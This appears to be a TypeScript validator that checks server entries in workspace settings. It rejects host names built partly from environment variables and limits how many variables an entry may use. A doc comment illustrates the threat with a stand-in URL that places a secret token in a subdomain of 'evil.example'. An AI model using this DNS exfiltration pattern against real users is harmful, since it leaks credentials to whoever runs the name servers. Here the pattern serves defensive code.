import { type ConfigProblem, ProblemList } from './configProblem.ts';
import { variablesOf } from './disclosure.ts';
import type { ServerSettings } from './serverConfig.ts';
import { describeUrl } from './serverUrl.ts';
import { readTemplateUrl } from './templateUrl.ts';

/** Variables of one entry: as many as a person reads before allowing it. */
const MOST_VARIABLES = 16;

/** What an entry of the user may have and one of a workspace may not, told from its text alone. */
export function checkWorkspaceServer(settings: ServerSettings): readonly ConfigProblem[] {
  const { name, url } = settings;
  const problems = new ProblemList(name);
  const at = ['sluice.servers', name];
  if (!hasPlainHost(url)) {
    problems.error([...at, 'url'], {
      found: `found ${describeUrl(url)}, where a variable is a part of the host name, which name servers get to see`,
      hint: 'write the whole host, or "${env:NAME}" for all of it; variables may stand in the path, the query and the headers',
    });
  }
  const uses = variablesOf(settings).reduce((sum, { places }) => sum + places.length, 0);
  if (uses > MOST_VARIABLES) {
    problems.error(at, {
      found: `found ${uses} variables, and a workspace's server may have ${MOST_VARIABLES}, all of which are shown before it is allowed`,
      hint: 'write the others out, or move the entry to your own settings',
    });
  }
  return problems.all;
}

/**
 * A workspace's server may leave its whole host to a variable of the user's environment, and not a part of it: whoever runs
 * the name servers of `evil.example` reads what `https://${env:TOKEN}.evil.example` asks them, before anything is sent.
 */
function hasPlainHost(url: string): boolean {
  const read = readTemplateUrl(url);
  if (read === undefined) return false;
  return read.variables.every(({ variable, place }) => {
    if (place.in === 'user') return false;
    if (place.in !== 'host') return true;
    return variable.kind === 'env' && /^\$\{[^{}]*\}(:.*)?$/.test(read.host);
  });
}
